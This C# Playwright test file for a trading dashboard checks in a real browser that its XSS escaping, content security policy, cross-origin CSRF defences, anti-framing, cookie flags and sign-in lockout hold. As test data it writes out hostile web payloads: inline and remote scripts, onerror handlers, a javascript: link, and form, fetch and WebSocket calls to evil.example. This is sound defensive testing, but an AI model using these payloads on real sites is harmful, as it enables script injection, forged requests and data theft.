using System.Net;
using System.Text.RegularExpressions;
using MartDesk.Desk.Guards;
using MartDesk.Web.Accounts;
using MartDesk.Web.SignIn;
using MartDesk.Web.Tests.Fakes;
using MartDesk.Web.Tests.Routes;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace MartDesk.Web.Tests.Browser;

/// <summary>What a sender, another page, a thief of cookies and a guesser try, in a real browser.</summary>
public sealed partial class AttackBrowserTests(OpenBrowser browser) : IClassFixture<OpenBrowser>
{
    /// <summary>Every text of a page, and what its attributes and fields hold. Comments are in none of them.</summary>
    private const string WhatIsSaid = """
        () => [document.documentElement.textContent, ...[...document.querySelectorAll('*')].flatMap(element => [...element.attributes].map(attribute => attribute.value)),
               ...[...document.querySelectorAll('input, textarea')].map(field => field.value)].join('\n')
        """;

    [BrowserFact]
    public async Task What_others_write_stays_text_on_every_page_and_no_page_breaks_its_policy()
    {
        await using var desk = await RunningDesk.StartAsync();
        await HostileDesk.FillAsync(desk);
        var paths = new List<string>();
        foreach (var path in RouteTable.Of(desk).Where(route => route is { Method: "GET", IsForPrograms: false } && !route.Pattern.StartsWith("/live", StringComparison.Ordinal)).Select(PathOf))
        {
            using var reply = await desk.Client.GetAsync(new Uri(path, UriKind.Relative), HttpCompletionOption.ResponseHeadersRead);
            var isPage = reply.StatusCode == HttpStatusCode.OK && reply.Content.Headers.ContentType?.MediaType == "text/html";
            if (isPage && path != FastConnectEndpoints.CallbackPath) // which is for who comes from the venue
                paths.Add(path);
        }

        Assert.True(paths.Count > 25, string.Join(" ", paths));
        var unseen = HostileDesk.Fields.ToHashSet();
        await using var open = await browser.OpenAsync(desk.Host.Address);
        foreach (var path in paths)
        {
            await open.Page.GotoAsync(new Uri(desk.Host.Address, path).ToString(), new() { WaitUntil = WaitUntilState.DOMContentLoaded });
            await ShouldBeUnharmedAsync(open, path);
            var said = await open.Page.EvaluateAsync<string>(WhatIsSaid);
            unseen.RemoveWhere(field => said.Contains(HostileDesk.Sign(field), StringComparison.Ordinal));
        }

        Assert.Empty(unseen);
    }

    [BrowserFact]
    public async Task What_others_write_stays_text_when_it_is_pushed_to_an_open_page()
    {
        await using var desk = await RunningDesk.StartAsync();
        BusyDesk.Fill(desk);
        await using var open = await browser.OpenAsync(desk.Host.Address);
        await Expect(open.Page.Locator("[data-region=positions] table")).ToBeVisibleAsync();

        await HostileDesk.FillAsync(desk);
        desk.Alerts.Add(HostileDesk.Alert("A-pushed"));

        await Expect(open.Page.Locator("details.feed[data-key='A-pushed'] pre")).ToHaveTextAsync(HostileDesk.Attack("alert body"));
        await Expect(open.Page.Locator("[data-region=positions]")).ToContainTextAsync(HostileDesk.Sign("position symbol"));
        await ShouldBeUnharmedAsync(open, "the open page");
    }

    [BrowserFact]
    public async Task Markup_that_got_into_a_page_would_neither_run_nor_fetch_nor_send()
    {
        // The page as the desk sends it, its headers with it, and in it what must never be there.
        const string injected = """
            <base href="http://evil.example/"><style>body { display: none }</style><p id="styled" style="display: none">here</p>
            <script>owned = 'inline'</script><img id="img" src="x" onerror="owned = 'handler'"><script src="http://evil.example/x.js"></script>
            <link rel="stylesheet" href="http://evil.example/x.css"><img src="http://evil.example/x.png"><iframe src="/guards"></iframe><object data="/guards"></object>
            <a id="link" href="javascript:owned='link'">link</a><form id="send" action="http://evil.example/take"><button>send</button></form>
            """;
        await using var desk = await RunningDesk.StartAsync();
        await using var open = await browser.OpenAsync(desk.Host.Address);
        var asked = new List<string>();
        open.Page.Request += (_, request) => asked.Add(request.Url);
        await open.Page.RouteAsync("**/notices", async route =>
        {
            var answer = await route.FetchAsync();
            await route.FulfillAsync(new() { Response = answer, Body = (await answer.TextAsync()).Replace("<main", injected + "<main", StringComparison.Ordinal) });
        });
        await open.Page.GotoAsync(new Uri(desk.Host.Address, "/notices").ToString());
        await open.Page.EvaluateAsync("""
            async () => {
              document.getElementById('link').click();
              document.getElementById('send').requestSubmit();
              const late = document.createElement('script');
              late.textContent = "owned = 'late'";
              document.body.append(late);
              document.body.setAttribute('onclick', "owned = 'attribute'");
              document.body.click();
              try { setTimeout("owned = 'text'", 0); } catch { }
              await fetch('http://evil.example/').catch(() => { });
              try { new WebSocket('ws://evil.example/'); } catch { }
              await new Promise(done => setTimeout(done, 0));
            }
            """);

        Assert.Equal("undefined", await open.Page.EvaluateAsync<string>("() => typeof window.owned"));
        Assert.True(await open.Page.EvaluateAsync<bool>("() => document.getElementById('styled').offsetHeight > 0"), "a style of the page's own was followed");
        Assert.Equal("/notices", await open.Page.EvaluateAsync<string>("() => location.pathname"));
        Assert.All(open.Page.Frames.Skip(1), frame => Assert.DoesNotContain("/guards", frame.Url, StringComparison.Ordinal));
        Assert.All(asked.Where(url => url.Contains("evil.example", StringComparison.Ordinal)), url => Assert.Contains(open.Complaints, complaint => complaint.Contains($"failed: {url} csp", StringComparison.Ordinal)));
        foreach (var directive in (string[])["base-uri", "script-src", "style-src", "img-src", "form-action", "connect-src", "default-src"])
            Assert.Contains(open.Complaints, complaint => complaint.Contains(directive, StringComparison.Ordinal));
    }

    [BrowserFact]
    public async Task Page_of_another_origin_gets_nothing_done_and_nothing_told()
    {
        await using var desk = await RunningDesk.StartAsync();
        BusyDesk.Fill(desk);
        await using var evil = await RunningDesk.StartAsync(); // another port of this machine: another origin, but the same site, so the session's cookie travels
        await using var open = await browser.OpenAsync(desk.Host.Address);
        await GoToEvilAsync(open, evil, $"<form method=post action='{desk.Host.Address}guards/panic'><button>win a prize</button></form>");

        var told = await open.Page.EvaluateAsync<string[]>(
            """
            async desk => {
              const tries = {
                read: () => fetch(desk, { credentials: 'include' }).then(reply => reply.text()),
                'read a stream': () => new Promise((done, fail) => { const stream = new EventSource(`${desk}live/overview`, { withCredentials: true }); stream.onmessage = done; stream.onerror = fail; }),
                'open a socket': () => new Promise((done, fail) => { const socket = new WebSocket(`${desk.replace('http', 'ws')}live/overview`); socket.onopen = done; socket.onerror = fail; }),
                'load a script': () => new Promise((done, fail) => { const script = document.createElement('script'); script.src = `${desk}assets/desk.js`; script.onload = done; script.onerror = fail; document.head.append(script); }),
                'load a stream': () => new Promise((done, fail) => { const image = new Image(); image.src = `${desk}live/overview`; image.onload = done; image.onerror = fail; }),
                'post JSON': () => fetch(`${desk}guards/panic`, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' }).then(reply => reply.text()),
                'use the API': () => fetch(`${desk}api/v1/panic`, { method: 'POST', credentials: 'include' }).then(reply => reply.text()),
              };
              const told = [];
              for (const [name, attempt] of Object.entries(tries)) await attempt().then(() => told.push(name), () => { });
              await fetch(`${desk}guards/panic`, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: 'a=b' }).catch(() => { });
              navigator.sendBeacon(`${desk}guards/panic`, new URLSearchParams({ a: 'b' }));
              return told;
            }
            """,
            desk.Host.Address.ToString());

        Assert.Empty(told);
        var answer = await open.Page.RunAndWaitForResponseAsync(() => open.Page.GetByText("win a prize").ClickAsync(), reply => reply.Url.EndsWith("/guards/panic", StringComparison.Ordinal));
        Assert.Equal(403, answer.Status);
        Assert.Equal((0, DeskMode.Active), (desk.Guards.Panics, desk.Guards.Mode));
        Assert.Empty(desk.Intake.Received);
    }

    [BrowserFact]
    public async Task Desk_is_drawn_in_no_frame_and_held_by_no_opener()
    {
        await using var desk = await RunningDesk.StartAsync();
        await using var evil = await RunningDesk.StartAsync();
        await using var open = await browser.OpenAsync(desk.Host.Address);
        var address = new Uri(desk.Host.Address, "/guards").ToString();
        await GoToEvilAsync(open, evil, $"<iframe src='{address}'></iframe><iframe sandbox='allow-forms allow-scripts' src='{address}'></iframe>");

        Assert.Equal(3, open.Page.Frames.Count);
        foreach (var frame in open.Page.Frames.Skip(1))
            Assert.Equal(0, await frame.Locator("#panic").CountAsync());
        await open.Page.EvaluateAsync("desk => { held = window.open(desk); }", address);
        await open.Page.WaitForFunctionAsync("() => held.closed"); // for who opened it, it is gone
    }

    [BrowserFact]
    public async Task Stolen_cookie_is_out_of_reach_of_scripts_new_at_every_sign_in_and_worthless_after_the_session()
    {
        await using var desk = await RunningDesk.StartAsync();
        await using var open = await browser.OpenAsync(new Uri(desk.Host.Address, "/sign-in"), isSignedIn: false);
        var name = SessionCookieNames.For(isTls: false, 0).Session;
        var planted = new string('A', 200);
        await open.Page.Context.AddCookiesAsync([new Microsoft.Playwright.Cookie { Name = name, Value = planted, Url = desk.Host.Address.ToString() }]);

        var first = await SignInAsync();
        var stolen = await desk.Host.Address.StatusWithAsync(first);
        await open.Page.GotoAsync(new Uri(desk.Host.Address, "/security").ToString());
        await open.Page.GetByRole(AriaRole.Button, new() { Name = "Sign out" }).ClickAsync();
        await Expect(open.Page.GetByRole(AriaRole.Heading, new() { Name = "Sign in" })).ToBeVisibleAsync();
        var second = await SignInAsync();

        Assert.Equal(HttpStatusCode.OK, stolen); // while its session lives it is the session
        Assert.Equal(HttpStatusCode.Unauthorized, await desk.Host.Address.StatusWithAsync(first));
        Assert.NotEqual(planted, first.Value);
        Assert.NotEqual(first.Value, second.Value);
        Assert.Equal("", await open.Page.EvaluateAsync<string>("() => document.cookie"));
        foreach (var cookie in await open.Page.Context.CookiesAsync())
            Assert.Equal((true, SameSiteAttribute.Strict, "/", (double)-1), (cookie.HttpOnly, cookie.SameSite, cookie.Path, cookie.Expires));

        await desk.PostAsync("/security/sessions/end-others");
        Assert.Equal(HttpStatusCode.Unauthorized, await desk.Host.Address.StatusWithAsync(second));

        async Task<BrowserContextCookiesResult> SignInAsync()
        {
            await open.Page.GetByLabel("Password").FillAsync(OwnersBrowser.Password);
            await open.Page.GetByRole(AriaRole.Button, new() { Name = "Sign in" }).ClickAsync();
            await Expect(open.Page.Locator("main h1").First).ToBeVisibleAsync();
            await open.Page.WaitForURLAsync(desk.Host.Address.ToString());
            return (await open.Page.Context.CookiesAsync()).Single(cookie => cookie.Name == name);
        }
    }

    [BrowserFact]
    public async Task Guesser_is_locked_out_with_the_right_password_too_and_open_pages_go_on()
    {
        var time = new MovedTime();
        await using var desk = await RunningDesk.StartAsync(time);
        desk.Portfolio.Publish(Sample.Portfolio);
        using var guesser = new OwnersBrowser(desk.Host.Address, followsRedirects: false);
        await guesser.LookAsync("/sign-in");
        for (var attempt = 1; attempt <= 10; attempt++)
        {
            Assert.Equal(HttpStatusCode.UnprocessableEntity, (await guesser.PostAsync("/sign-in", ("password", $"wrong password number {attempt}"))).Status);
            time.Ahead += TimeSpan.FromSeconds(33); // the longest delay
        }

        await using var open = await browser.OpenAsync(new Uri(desk.Host.Address, "/sign-in"), isSignedIn: false);
        await TryAsync();
        await Expect(open.Page.GetByRole(AriaRole.Alert)).ToContainTextAsync(Minutes());
        Assert.Contains("BTCUSDT", await desk.Owner.Client.GetStringAsync("/"), StringComparison.Ordinal);

        time.Ahead += TimeSpan.FromMinutes(10);
        await TryAsync();
        await Expect(open.Page.Locator("[data-region=positions]")).ToContainTextAsync("BTCUSDT");

        async Task TryAsync()
        {
            await open.Page.GetByLabel("Password").FillAsync(OwnersBrowser.Password);
            await open.Page.GetByRole(AriaRole.Button, new() { Name = "Sign in" }).ClickAsync();
        }
    }

    /// <summary>Nothing of an attack became markup, nothing ran, and the browser had nothing to complain of.</summary>
    private static async Task ShouldBeUnharmedAsync(WatchedPage open, string path)
    {
        Assert.True(await open.Page.Locator(".pwned").CountAsync() == 0, $"{path}: text became markup");
        Assert.True(await open.Page.EvaluateAsync<string>("() => typeof window.owned") == "undefined", $"{path}: a script of a sender ran");
        Assert.True(open.Complaints.Count == 0, $"{path}: {string.Join("\n", open.Complaints)}");
    }

    private static async Task GoToEvilAsync(WatchedPage open, RunningDesk evil, string body)
    {
        await open.Page.RouteAsync("**/evil", route => route.FulfillAsync(new RouteFulfillOptions { ContentType = "text/html", Body = body }));
        await open.Page.GotoAsync(new Uri(evil.Host.Address, "/evil").ToString());
    }

    private static string PathOf(MappedRoute route) => route.Names.Aggregate(route.Pattern, (path, name) => path.Replace($"{{{name}}}", name switch
    {
        "account" when route.Pattern.StartsWith("/positions", StringComparison.Ordinal) => "swing",
        "symbol" => "BTCUSDT",
        "side" => "long",
        "alert" => "A-hostile",
        _ when route.Pattern.StartsWith("/alerts", StringComparison.Ordinal) => "A-hostile",
        _ when route.Pattern.StartsWith("/pointers", StringComparison.Ordinal) => "P2",
        _ => "ACC1",
    }, StringComparison.Ordinal));

    [GeneratedRegex("Too many attempts went wrong. Try again in \\d+ min.")]
    private static partial Regex Minutes();
}

file static class Thief
{
    /// <summary>What who holds this cookie alone is answered for a stream's address, which never leads to the sign-in.</summary>
    public static async Task<HttpStatusCode> StatusWithAsync(this Uri desk, BrowserContextCookiesResult cookie)
    {
        using var client = new HttpClient(new SocketsHttpHandler { UseCookies = false }) { BaseAddress = desk };
        client.DefaultRequestHeaders.Add("Cookie", $"{cookie.Name}={cookie.Value}");
        using var reply = await client.GetAsync(new Uri("/session", UriKind.Relative));
        return reply.StatusCode;
    }
}
